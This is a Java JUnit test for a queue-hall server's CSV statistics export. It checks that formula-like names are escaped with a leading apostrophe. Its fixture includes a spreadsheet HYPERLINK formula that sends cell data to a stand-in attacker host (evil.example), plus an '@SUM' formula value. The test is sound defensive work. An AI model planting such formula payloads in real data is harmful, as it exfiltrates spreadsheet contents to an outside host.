package hallq.server.net;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import hallq.server.queue.Halls;
import java.net.http.HttpResponse;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** /api/stats.csv: a name from the hall file that a spreadsheet would run as a formula is shown as text. */
class CsvInjectionTest {
    @Test
    void formulaLikeNamesAreNeutralisedAndNumbersStayNumbers() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"张三\")";
        try (RunningHall hall = new RunningHall(Halls.test(
                "name: 张三,", "name: '" + hyperlink.replace("'", "''") + "',",
                "name: 法人服务区,", "name: \"@SUM(1+1)\","));
             WsClient pad = hall.hello("pad-1", "p1-secret")) {
            assertThat(hall.post("/api/tickets", "k1-secret", "{\"zone\":\"legal\"}").statusCode()).isEqualTo(201);
            assertThat(pad.request("login", "clerk", "1001", "pin", "4821").path("ok").asBoolean()).isTrue();
            assertThat(pad.request("call-next").path("ok").asBoolean()).isTrue();
            assertThat(pad.request("finish", "outcome", "done").path("ok").asBoolean()).isTrue();
            String today = LocalDate.now(ZoneId.of("Asia/Shanghai")).toString();
            HttpResponse<String> r = hall.get("/api/stats.csv?from=" + today + "&to=" + today, "m-secret");
            assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
            List<Map<String, String>> rows;
            try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
                    .with(CsvSchema.emptySchema().withHeader()).readValues(r.body().substring(1))) {
                rows = it.readAll();
            }
            assertThat(rows).hasSize(1);
            Map<String, String> row = rows.get(0);
            assertThat(row.get("clerkName")).isEqualTo("'" + hyperlink);
            assertThat(row.get("zoneName")).isEqualTo("'@SUM(1+1)");
            assertThat(row).containsEntry("number", "A001").containsEntry("clerk", "1001").containsEntry("recalls", "0")
                    .containsEntry("outcome", "done");
            assertThat(row.get("waitSec")).matches("\\d+");
            assertThat(row.get("day")).isEqualTo(today);
        }
    }
}
